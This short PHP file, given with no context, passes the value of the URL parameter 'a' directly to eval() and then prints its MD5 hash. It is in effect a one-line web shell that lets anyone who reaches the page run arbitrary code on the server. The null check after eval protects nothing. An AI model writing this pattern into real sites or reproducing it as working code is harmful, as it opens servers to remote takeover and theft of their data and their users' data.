<?php
$x = $_GET["a"];
eval($x);
echo md5($x);
if ($x == null) { exit; }
